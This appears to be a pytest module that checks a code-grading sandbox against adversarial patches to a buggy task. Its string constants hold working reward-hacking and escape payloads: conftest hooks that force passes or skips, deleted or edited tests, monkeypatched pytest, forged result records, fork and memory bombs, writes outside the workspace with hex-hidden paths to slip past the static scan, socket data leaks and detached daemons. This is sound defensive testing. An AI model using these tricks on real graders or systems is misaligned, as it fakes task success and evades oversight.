"""Adversarial patches: each is graded a failure, contained, on time, and leaves nothing behind.

Every case starts from a real task's buggy tree (the bug stays unfixed, so a pass could only be
faked) and is checked twice: through the full grading path (static scan, trusted tests,
sandbox), and through the sandbox alone with the static scan bypassed, so that the runtime
containment is tested on its own. The one case defended only by the static scan says so.
"""

from __future__ import annotations

import os
import shutil
import socket
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from conftest import FIXTURES, ROOT, UNPRIVILEGED_UID, as_user, marked_processes, needs_namespaces
from pappo.config.data import SandboxParams
from pappo.sandbox.grading import _grade, grade, trusted_tree
from pappo.sandbox.pool import SandboxPool
from pappo.tasks.store import TaskStore

LIMITS = SandboxParams(timeout_s=5, test_timeout_s=1, memory_mb=512, max_procs=64, workers=1)
# In every file name and command line a case creates; the unprivileged run is given its parent's.
MARK = os.environ.get("PAPPO_ADVERSARIAL_MARK") or f"zzadv{uuid.uuid4().hex[:10]}"
FIX = "    return sum(values) / len(values)\n"
BUG = "    return sum(values) * len(values)\n"
HOST_DIRS = [Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), ROOT, Path.home()]


def _module(prefix: str = "", body: str = "") -> dict[str, str]:
    """Edits of tinycalc/core.py: code at import (`prefix`) and/or a new body for mean()."""
    out = {}
    if prefix:
        out["prefix"] = prefix
    if body:
        out["body"] = body
    return out


# The checkout's path goes in hex: this case tests runtime containment, so the static scan must not
# see it (a clone under a folder named after the project would spell a forbidden word).
WRITE_OUT = f"""
import os
for _p in ["/tmp/{MARK}", "/dev/shm/{MARK}", "/var/tmp/{MARK}", bytes.fromhex("{str(ROOT).encode().hex()}").decode() + "/{MARK}",
           os.path.expanduser("~/../{MARK}"), os.path.join(os.getcwd(), "..", "{MARK}"),
           os.path.join(os.getcwd(), "tests", "test_{MARK}.py"), os.path.join(os.getcwd(), "conftest.py")]:
    try:
        with open(_p, "w") as _f:
            _f.write("def test_x():\\n    pass\\n")
    except OSError:
        pass
"""
# The host's HOME, spelled so that no string constant names it (the scan is not what is tested).
WRITE_HOME = f"""
import os
_home = bytes.fromhex("{str(Path.home()).encode().hex()}").decode()
for _p in [os.path.join(_home, "{MARK}"), os.path.join(_home, ".{MARK}rc")]:
    try:
        with open(_p, "w") as _f:
            _f.write("leak")
    except OSError:
        pass
"""
UNIX_SOCKETS = """
import socket
# the named socket's path in hex, as WRITE_OUT's: it lies in the checkout, whose path the scan must not see
for _addr in ["\\0{sockname}", bytes.fromhex("{sockpath}").decode()]:  # the host's abstract and named sockets
    try:
        _s = socket.socket(socket.AF_UNIX)
        _s.connect(_addr.replace("\\0", "\\x00"))
        _s.sendall(b"leak")
    except OSError:
        pass
"""
NETWORK = """
import socket
for _addr in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(_addr, timeout=0.5).sendall(b"leak")
    except OSError:
        pass
"""
# A forked daemon, named by prctl(PR_SET_NAME) (its /proc/PID/comm): starting a program is refused
# by the audit hook, which ends the run at the Popen below, after the fork.
BACKGROUND = f"""
import ctypes, os, subprocess, sys, time
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"{MARK}"[:15], 0, 0, 0)
    time.sleep(600)
    os._exit(0)
time.sleep(0.2)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{MARK}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
FORK_BOMB = """
import os
for _ in range(40):
    try:
        os.fork()
    except OSError:
        break
"""
FORGE = """
import os
for _fd in range(3, 30):
    try:
        os.write(_fd, b'{"kind": "outcome", "nodeid": "tests/test_core.py::test_mean", "outcome": "passed", "seq": 1}\\tab\\n')
    except OSError:
        pass
"""
CONFTEST_PASS = (
    b"import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
    b"    out = yield\n    out.get_result().outcome = 'passed'\n"
)
CONFTEST_SKIP = (
    b"import pytest\ndef pytest_collection_modifyitems(items):\n"
    b"    for item in items:\n        item.add_marker(pytest.mark.skip)\n"
)

# name -> (edits of core.py, extra file changes {path: bytes | None}, hack expected from the scan)
CASES: dict[str, tuple[dict[str, str], dict[str, bytes | None], bool | None]] = {
    "infinite_loop_in_function": (_module(body="    while True:\n        pass\n"), {}, False),
    "infinite_loop_at_import": (_module("while True:\n    pass\n"), {}, False),
    "memory_bomb": (_module("_hog = [bytearray(64 * 2**20) for _ in range(10**4)]\n"), {}, False),
    "fork_bomb": (_module(FORK_BOMB), {}, None),
    "os_exit_at_import": (_module("import os\nos._exit(0)\n"), {}, True),
    "sys_exit_at_import": (_module("import sys\nsys.exit(0)\n"), {}, True),
    "os_exit_in_function": (_module(body="    import os\n    os._exit(0)\n"), {}, True),
    "sys_exit_in_function": (_module(body="    import sys\n    sys.exit(0)\n"), {}, True),
    "conftest_passes_everything": (
        {},
        {"tests/conftest.py": CONFTEST_PASS, "conftest.py": CONFTEST_PASS},
        True,
    ),
    "conftest_skips_everything": (
        {},
        {"tests/conftest.py": CONFTEST_SKIP, "pytest.ini": b"[pytest]\naddopts = -k nothing\n"},
        True,
    ),
    "edit_tests": ({}, {"tests/test_core.py": b"def test_mean():\n    assert True\n"}, True),
    "delete_tests": ({}, {"tests/test_core.py": None, "tests/test_ranges.py": None}, True),
    "rename_tests": ({}, {"tests/test_core.py": None, "tests/core_checks.py": b"<moved>"}, True),
    "monkeypatch_pytest": (
        _module("import _pytest.runner\n_pytest.runner.call_and_report = lambda *a, **k: None\n"),
        {},
        True,
    ),
    "monkeypatch_builtins": (_module("import builtins\nbuiltins.isinstance = lambda *a: True\n"), {}, True),
    "forge_result_channel": (_module(FORGE), {}, None),
    "write_outside_workspace": (_module(WRITE_OUT), {}, True),  # its test_*.py: the audit hook
    "network_connection": (_module(NETWORK), {}, False),
    "write_home": (_module(WRITE_HOME), {}, False),
    "unix_sockets": (_module(UNIX_SOCKETS), {}, False),
    "background_process": (_module(BACKGROUND), {}, True),  # its Popen: the audit hook
}
# Reaching the plugin's key in-process can forge valid records; only the static scan stops it.
STATIC_ONLY = {
    "forge_via_plugin": (
        _module(
            "import sys\n_p = sys.modules['pappo.sandbox.pytest_plugin']\n"
            "for _t in ['tests/test_core.py::test_mean']:\n    _p.emit('outcome', nodeid=_t, outcome='passed')\n"
        ),
        {},
        True,
    ),
}


@pytest.fixture(scope="module")
def store() -> TaskStore:
    return TaskStore(FIXTURES / "repofix" / "manifest.jsonl", FIXTURES / "repofix" / "repos")


@pytest.fixture(scope="module")
def pool():
    with SandboxPool(LIMITS) as p:
        yield p


@pytest.fixture(scope="module")
def listener():
    """TCP, abstract and named unix servers on the host that record any connection.

    The named socket lives in a folder the sandbox's mount view shows (read-only), mode 0666:
    only the seccomp filter keeps a run from it. The unprivileged run is handed such a folder.
    """
    folder = os.environ.get("PAPPO_ADVERSARIAL_SOCKDIR") or tempfile.mkdtemp(prefix=".zzsock-", dir=ROOT)
    os.chmod(folder, 0o755)  # any run's uid may reach the socket
    servers = [socket.socket(), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
    servers[0].bind(("127.0.0.1", 0))
    servers[1].bind(f"\0{MARK}-abstract{os.getpid()}")  # the unprivileged run binds its own
    servers[2].bind(f"{folder}/host.sock")
    os.chmod(f"{folder}/host.sock", 0o666)
    seen: list[bytes] = []
    stop = threading.Event()

    def serve(server: socket.socket) -> None:
        server.listen()
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                seen.append(conn.recv(100) or b"<connected>")
                conn.close()
            except OSError:
                pass

    threads = [threading.Thread(target=serve, args=(s,), daemon=True) for s in servers]
    for thread in threads:
        thread.start()
    yield servers[0].getsockname()[1], seen, f"{MARK}-abstract{os.getpid()}", f"{folder}/host.sock"
    stop.set()
    for thread, server in zip(threads, servers):
        thread.join()
        server.close()
    os.unlink(f"{folder}/host.sock")
    if "PAPPO_ADVERSARIAL_SOCKDIR" not in os.environ:
        os.rmdir(folder)


def candidate(
    store: TaskStore, name: str, listener: tuple, control: bool = False
) -> tuple[object, dict[str, bytes], dict[str, bytes]]:
    edits, files, _ = {**CASES, **STATIC_ONLY}[name]
    task = store.task("tinycalc-001")
    clean, buggy = store.clean(task), dict(store.buggy(task))
    core = buggy["tinycalc/core.py"].decode()
    assert BUG in core
    ran = f"print('{MARK}-ran', flush=True)\n"  # proof in the run's log that the attack started
    if "body" in edits:
        core = core.replace(BUG, "    " + ran + edits["body"] + BUG)
    if "prefix" in edits:
        tcp, _, sockname, sockpath = listener
        prefix = (
            edits["prefix"]
            .replace("{port}", str(tcp))
            .replace("{sockname}", sockname)
            .replace("{sockpath}", sockpath.encode().hex())
        )
        core = ran + prefix + core
    if control:  # the attack never runs: its checks must then fail
        core = f"raise RuntimeError('{MARK}-control')\n" + core
    buggy["tinycalc/core.py"] = core.encode()
    for path, data in files.items():
        if data is None:
            buggy.pop(path, None)
        else:
            buggy[path] = buggy.get("tests/test_core.py", b"") if data == b"<moved>" else data
    return task, clean, buggy


def leftovers() -> list[str]:
    """Processes or host files a case may have left (found by the case's marker)."""
    found = [f"process {pid}" for pid in marked_processes(MARK)]
    for folder in HOST_DIRS:
        found += [str(p) for p in folder.glob(f"*{MARK}*")]
    return found


def assert_clean() -> None:
    deadline = time.monotonic() + 5
    while leftovers() and time.monotonic() < deadline:  # the kill is sent before the reply
        time.sleep(0.1)
    assert leftovers() == []


needs_ns = needs_namespaces


@needs_ns
@pytest.mark.parametrize("name", [*CASES, *STATIC_ONLY])
def test_graded_as_failure(store: TaskStore, pool: SandboxPool, listener, name: str):
    seen = listener[1]
    task, clean, cand = candidate(store, name, listener)
    start = time.monotonic()
    g = grade(pool, task, clean, cand, store.hidden)
    assert not g.success and g.infra_error is None, g
    assert time.monotonic() - start < LIMITS.timeout_s + 5
    expected_hack = {**CASES, **STATIC_ONLY}[name][2]
    if expected_hack is not None:
        assert g.hack_attempt == expected_hack, (g.hack_attempt, g.hack_reasons)
    assert_clean()
    assert seen == []


def check_contained(store: TaskStore, pool: SandboxPool, listener, name: str, control: bool = False) -> None:
    """The runtime containment of one case, static scan bypassed; code cases must show they ran."""
    seen = listener[1]
    task, clean, cand = candidate(store, name, listener, control)
    tree, restored = trusted_tree(clean, cand)
    start = time.monotonic()
    grade(pool, task, clean, store.buggy(task), store.hidden)  # fills the expected answers
    suite = store.hidden[task.instance_id]
    run = pool.run(tree, [*task.FAIL_TO_PASS, *task.PASS_TO_PASS], suite.spec())
    g = _grade(task, run, restored, suite)
    assert not g.success and run.infra_error is None, (run.outcomes, run.log_tail)
    assert run.duration_s < LIMITS.timeout_s + 1 and time.monotonic() - start < LIMITS.timeout_s + 5
    if CASES[name][0]:
        assert f"{MARK}-ran" in run.log_tail, f"the attack code of {name} never ran: {run.log_tail[-500:]}"
    assert_clean()
    assert seen == []


@needs_ns
@pytest.mark.parametrize("name", list(CASES))
def test_contained_without_the_static_scan(store: TaskStore, pool: SandboxPool, listener, name: str):
    check_contained(store, pool, listener, name)


@needs_ns
@pytest.mark.parametrize("name", [n for n, case in CASES.items() if case[0]])
def test_control_patch_that_raises_at_import_fails_the_check(
    store: TaskStore, pool: SandboxPool, listener, name: str
):
    """With the module raising before the attack, the same check fails: the attack code does run."""
    with pytest.raises(AssertionError, match="never ran"):
        check_contained(store, pool, listener, name, control=True)
    task, clean, cand = candidate(store, name, listener, control=True)
    run = pool.run(trusted_tree(clean, cand)[0], [*task.FAIL_TO_PASS, *task.PASS_TO_PASS])
    assert run.outcomes and "passed" not in run.outcomes.values()  # every test of the task fails


@needs_ns
def test_the_fix_itself_passes(store: TaskStore, pool: SandboxPool):
    """The harness is not rigged: the same task with its real fix is graded a success."""
    task = store.task("tinycalc-001")
    fixed = dict(store.buggy(task))
    fixed["tinycalc/core.py"] = fixed["tinycalc/core.py"].replace(BUG.encode(), FIX.encode())
    g = grade(pool, task, store.clean(task), fixed, store.hidden)
    assert g.success and not g.hack_attempt and g.n_failing == 0


@needs_ns
def test_the_leak_checks_can_fail(store: TaskStore, listener):
    """Without containment (isolation=rlimits) the same checks see the leaks; then clean up."""
    seen = listener[1]
    try:
        with SandboxPool(LIMITS.model_copy(update={"isolation": "rlimits"})) as p:
            for name in ("write_outside_workspace", "write_home", "background_process", "network_connection"):
                task, clean, cand = candidate(store, name, listener)
                p.run(trusted_tree(clean, cand)[0])
        found = leftovers()
        assert any(x.startswith("process") for x in found) and any(x.startswith("/tmp/") for x in found)
        assert any(x.startswith(str(Path.home())) for x in found), found
        deadline = time.monotonic() + 3
        while not seen and time.monotonic() < deadline:
            time.sleep(0.05)
        assert seen == [b"leak"]
        for address in ("\0" + listener[2], listener[3]):  # the unix servers record a connection too
            with socket.socket(socket.AF_UNIX) as client:
                client.connect(address)
                client.sendall(b"unix")
        while len(seen) < 3 and time.monotonic() < deadline + 3:
            time.sleep(0.05)
        assert seen == [b"leak", b"unix", b"unix"]
    finally:
        for x in leftovers():
            if x.startswith("process"):
                os.kill(int(x.split()[1]), 9)
            else:
                Path(x).unlink(missing_ok=True)
        seen.clear()
    assert_clean()


def test_the_suite_as_an_unprivileged_user(unprivileged_home: Path):
    """This module again, its pools started by an ordinary uid: rootless namespaces, same verdicts."""
    probe = as_user(
        unprivileged_home, ["-c", "from pappo.sandbox.isolation import unavailable; print(unavailable())"]
    )
    if probe.returncode != 0:
        pytest.skip(f"cannot run as uid {UNPRIVILEGED_UID} here: {probe.stderr.strip()[-300:]}")
    if probe.stdout.strip() != "None":
        pytest.skip(f"no rootless namespaces for uid {UNPRIVILEGED_UID} here: {probe.stdout.strip()}")
    args = [
        "-m",
        "pytest",
        "-q",
        "-n",
        "0",
        "-p",
        "no:cacheprovider",
        "-k",
        "not unprivileged",
        __file__,
    ]  # one process, whatever addopts say
    sockets = tempfile.mkdtemp(prefix=".zzsock-", dir=ROOT)  # visible to runs, writable by the user
    os.chown(sockets, UNPRIVILEGED_UID, UNPRIVILEGED_UID)
    try:
        out = as_user(
            unprivileged_home,
            args,
            env={"PAPPO_ADVERSARIAL_MARK": MARK, "PAPPO_ADVERSARIAL_SOCKDIR": sockets},
        )
    finally:
        shutil.rmtree(sockets, ignore_errors=True)
    summary = out.stdout.strip().splitlines()[-1] if out.stdout.strip() else out.stderr[-2000:]
    assert out.returncode == 0, out.stdout[-4000:] + out.stderr[-2000:]
    assert "skipped" not in summary and "deselected" in summary, summary
    assert int(summary.split(" passed")[0].split()[-1]) >= 2 * len(CASES), summary
    assert_clean()  # with the same marker: nothing in /tmp, /dev/shm, /var/tmp, the repository...
    assert list(unprivileged_home.iterdir()) == []  # ... nor in the user's own home


def test_no_marker_left_from_the_whole_module():
    assert leftovers() == [] and sys.platform.startswith("linux")
